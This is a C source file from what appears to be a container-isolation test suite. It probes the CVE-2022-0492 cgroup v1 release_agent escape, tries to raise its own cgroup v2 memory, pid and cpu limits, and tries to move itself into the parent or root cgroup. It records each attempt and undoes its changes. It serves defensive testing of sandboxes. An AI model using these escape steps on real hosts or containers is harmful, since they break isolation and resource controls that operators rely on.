// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * esc_cgroup - cgroup escapes.
 *
 * CVE-2022-0492: root in a user namespace could mount a cgroup v1 hierarchy
 * and write its release_agent, a program the host kernel runs as full root
 * when a cgroup with notify_on_release empties. Also tried here: raising
 * our own cgroup v2 limits (memory.max, pids.max, cpu.max) and moving
 * ourselves to the parent or root cgroup, out of the limits.
 *
 *   esc_cgroup            the attack (limits are read back to check writes)
 *   esc_cgroup --control  outside, as root: makes a scratch cgroup
 *                         /sys/fs/cgroup/vesc-control, moves in, and does the
 *                         same (must work), mounts a named v1 hierarchy; all
 *                         undone afterwards
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "esc.h"

static bool control;

static void try_v1(const char *opts)
{
	char dir[] = "/tmp/vesc-cg1-XXXXXX", what[256], p[128];
	int r;

	if (!mkdtemp(dir)) {
		esc_refused("mkdtemp for a cgroup v1 mount", errno);
		return;
	}
	r = mount("cgroup", dir, "cgroup", 0, opts);
	if (r < 0) {
		esc_refused(esc_fmt(what, sizeof(what), "mount cgroup v1 -o %s", opts), errno);
		rmdir(dir);
		return;
	}
	esc_escaped(esc_fmt(what, sizeof(what), "mount cgroup v1 -o %s", opts), "mounted on %s",
		    dir);
	/* Write release_agent with its current value: the permission is the point. */
	snprintf(p, sizeof(p), "%s/release_agent", dir);
	{
		char cur[256] = "";

		esc_read_file(p, cur, sizeof(cur));
		cur[strcspn(cur, "\n")] = 0;
		r = esc_write_file(p, control ? cur : "/tmp/vesc-release-agent");
		if (r < 0) {
			errno = -r;
			esc_refused(esc_fmt(what, sizeof(what), "write release_agent (-o %s)",
					    opts),
				    errno);
		} else {
			esc_escaped(esc_fmt(what, sizeof(what), "write release_agent (-o %s)",
					    opts),
				    "written");
			if (!control)
				esc_write_file(p, cur);
		}
	}
	snprintf(p, sizeof(p), "%s/notify_on_release", dir);
	r = esc_write_file(p, "0");
	if (r < 0)
		esc_refused("write notify_on_release", -r);
	else
		esc_escaped("write notify_on_release", "written");
	umount2(dir, MNT_DETACH);
	rmdir(dir);
}

/* Find the cgroup2 mount and our cgroup directory in it. */
static int own_cgroup(char *dir, size_t len, char *mnt, size_t mlen)
{
	char line[4096], path[1024] = "";
	FILE *f = fopen("/proc/self/cgroup", "re");

	mnt[0] = 0;
	if (f) {
		while (fgets(line, sizeof(line), f))
			if (!strncmp(line, "0::", 3)) {
				snprintf(path, sizeof(path), "%.1000s", line + 3);
				path[strcspn(path, "\n")] = 0;
			}
		fclose(f);
	}
	f = fopen("/proc/self/mountinfo", "re");
	if (f) {
		while (fgets(line, sizeof(line), f)) {
			char *sep = strstr(line, " - cgroup2 ");
			char *p = line;
			int i;

			if (!sep)
				continue;
			for (i = 0; i < 4 && p; i++)
				p = strchr(p + 1, ' ');
			if (!p)
				continue;
			snprintf(mnt, mlen, "%.*s", (int)strcspn(p + 1, " ") % 1000, p + 1);
			break;
		}
		fclose(f);
	}
	if (!mnt[0])
		return -1;
	snprintf(dir, len, "%s%s", mnt, strcmp(path, "/") ? path : "");
	return 0;
}

static void try_limit(const char *dir, const char *file, const char *val)
{
	char p[4200], what[300], before[128] = "", after[128] = "";
	int r;

	snprintf(p, sizeof(p), "%s/%s", dir, file);
	esc_fmt(what, sizeof(what), "raise own %s to '%s'", file, val);
	r = (int)esc_read_file(p, before, sizeof(before));
	if (r < 0) {
		esc_refused(what, -r);
		return;
	}
	r = esc_write_file(p, val);
	esc_read_file(p, after, sizeof(after));
	before[strcspn(before, "\n")] = 0;
	after[strcspn(after, "\n")] = 0;
	if (r < 0) {
		esc_refused(what, -r);
		return;
	}
	esc_escaped(what, "write accepted (was '%s', now '%s')", before, after);
	if (strcmp(before, after) && !control)
		esc_write_file(p, before);
}

static void try_move(const char *label, const char *procs)
{
	char what[300], pid[32], cg[512] = "", cg2[512] = "";
	int r;

	esc_read_file("/proc/self/cgroup", cg, sizeof(cg));
	snprintf(pid, sizeof(pid), "%d", getpid());
	esc_fmt(what, sizeof(what), "move ourselves to the %s cgroup (%s)", label, procs);
	r = esc_write_file(procs, pid);
	esc_read_file("/proc/self/cgroup", cg2, sizeof(cg2));
	if (r < 0) {
		esc_refused(what, -r);
		return;
	}
	cg2[strcspn(cg2, "\n")] = 0;
	esc_escaped(what, "write accepted, now in %s", cg2);
}

static void attack(void)
{
	static const char *const v1[] = {
		"none,name=vesc", "memory",  "pids",	   "cpu",  "cpuset",  "devices",
		"freezer",	  "net_cls", "perf_event", "rdma", "hugetlb", "misc",
	};
	char dir[2100], mnt[1024], p[4200];
	size_t i;

	for (i = 0; i < sizeof(v1) / sizeof(v1[0]); i++)
		try_v1(v1[i]);

	if (own_cgroup(dir, sizeof(dir), mnt, sizeof(mnt)) < 0) {
		char tmp[] = "/tmp/vesc-cg2-XXXXXX";

		/* No cgroup2 visible: try to mount one. */
		if (mkdtemp(tmp) && mount("cgroup2", tmp, "cgroup2", 0, NULL) == 0) {
			esc_escaped("mount cgroup2", "mounted on %s", tmp);
			snprintf(mnt, sizeof(mnt), "%s", tmp);
			snprintf(dir, sizeof(dir), "%s", tmp);
		} else {
			esc_refused("mount cgroup2", errno);
			rmdir(tmp);
			return;
		}
	}
	esc_info("own cgroup directory: %s (cgroup2 mount %s)", dir, mnt);
	try_limit(dir, "memory.max", "max");
	try_limit(dir, "memory.high", "max");
	try_limit(dir, "memory.swap.max", "max");
	try_limit(dir, "pids.max", "max");
	try_limit(dir, "cpu.max", "max");
	snprintf(p, sizeof(p), "%s/../cgroup.procs", dir);
	if (strcmp(dir, mnt))
		try_move("parent", p);
	snprintf(p, sizeof(p), "%s/cgroup.procs", mnt);
	if (strcmp(dir, mnt))
		try_move("root", p);
	else
		try_move("namespace root (own)", p);
}

static int do_control(void)
{
	const char *cg = "/sys/fs/cgroup/vesc-control";
	char pid[32];

	if (mkdir(cg, 0755) < 0 && errno != EEXIST) {
		perror("esc_cgroup: mkdir control cgroup");
		return 2;
	}
	esc_write_file("/sys/fs/cgroup/vesc-control/memory.max", "1073741824");
	esc_write_file("/sys/fs/cgroup/vesc-control/pids.max", "1000");
	snprintf(pid, sizeof(pid), "%d", getpid());
	if (esc_write_file("/sys/fs/cgroup/vesc-control/cgroup.procs", pid) < 0) {
		perror("esc_cgroup: enter control cgroup");
		return 2;
	}
	attack();
	/* undo: back to the root, remove the scratch cgroup */
	esc_write_file("/sys/fs/cgroup/cgroup.procs", pid);
	rmdir(cg);
	return esc_finish();
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	control = esc_is_control(argc, argv);
	if (control)
		return do_control();
	attack();
	return esc_finish();
}
